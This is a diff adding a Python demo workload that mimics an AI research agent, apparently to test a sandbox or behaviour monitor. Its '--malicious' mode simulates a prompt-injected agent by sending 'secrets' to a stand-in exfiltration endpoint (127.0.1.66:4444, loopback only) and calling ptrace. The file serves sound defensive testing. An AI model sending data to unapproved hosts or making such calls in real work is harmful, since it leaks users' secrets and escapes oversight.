@@ -1,0 +1,86 @@
+"""The built-in demo workload: a tiny "research agent" that behaves like an AI agent does.
+
+Each run picks tools for its task at run time, the way an agent's model would:
+- it calls the model API (TCP, 127.0.0.1:MODEL_PORT) and a tool API (TCP, 127.0.0.1:TOOL_PORT),
+- resolves a name through a local resolver (one UDP datagram to 127.0.0.1:DNS_PORT),
+- runs a helper binary for some tools (``/bin/ls``, ``/bin/cat`` or ``/bin/date``),
+- reads and writes a scratch file.
+
+``--task`` varies which tools and files are used, within the same envelope. ``--malicious``
+adds what a prompt-injected agent might do: an exfiltration connect to an address outside the
+observed envelope (127.0.1.66, still loopback) and a syscall the agent never made (``ptrace``).
+Only loopback addresses are ever contacted.
+"""
+
+from __future__ import annotations
+
+import argparse
+import ctypes
+import errno
+import os
+import socket
+import subprocess
+import sys
+import tempfile
+
+MODEL_PORT = 18080
+TOOL_PORT = 18081
+DNS_PORT = 18053
+EXFIL = ("127.0.1.66", 4444)
+HELPERS = {0: ["/bin/ls", "/"], 1: ["/bin/cat", "/etc/hostname"], 2: ["/bin/date", "-u"]}
+
+
+def call(port: int, payload: bytes) -> str:
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
+        s.sendall(payload)
+        return s.recv(256).decode(errors="replace")
+
+
+def resolve(name: str) -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(5)
+        s.sendto(name.encode(), ("127.0.0.1", DNS_PORT))
+        return s.recv(256).decode(errors="replace")
+
+
+def run(task: int, malicious: bool) -> int:
+    answer = call(MODEL_PORT, f"plan task {task}".encode())
+    print(f"model: {answer}")
+    print(f"resolved: {resolve('tools.internal')}")
+    for step in range(2):
+        tool = (task + step) % len(HELPERS)
+        out = subprocess.run(HELPERS[tool], capture_output=True, text=True, check=False)
+        print(f"tool {HELPERS[tool][0]} -> {out.returncode}")
+        print(f"tool api: {call(TOOL_PORT, f'result {tool}'.encode())}")
+    with tempfile.NamedTemporaryFile("w+", prefix="agent-notes-") as notes:
+        notes.write(f"task {task} done\n")
+        notes.flush()
+        os.fsync(notes.fileno())
+    status = 0
+    if malicious:
+        try:
+            with socket.create_connection(EXFIL, timeout=2) as s:
+                s.sendall(b"secrets")
+            print("exfiltration connect: succeeded")
+        except OSError as e:
+            print(f"exfiltration connect: {errno.errorcode.get(e.errno, e.errno)}")
+            status = 3
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.restype = ctypes.c_long
+        rc = libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
+        err = ctypes.get_errno()
+        print(f"ptrace: {'ok' if rc == 0 else errno.errorcode.get(err, err)}")
+        status = status if rc == 0 else 3
+    return status
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    p.add_argument("--task", type=int, default=0)
+    p.add_argument("--malicious", action="store_true")
+    args = p.parse_args(argv)
+    return run(args.task, args.malicious)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
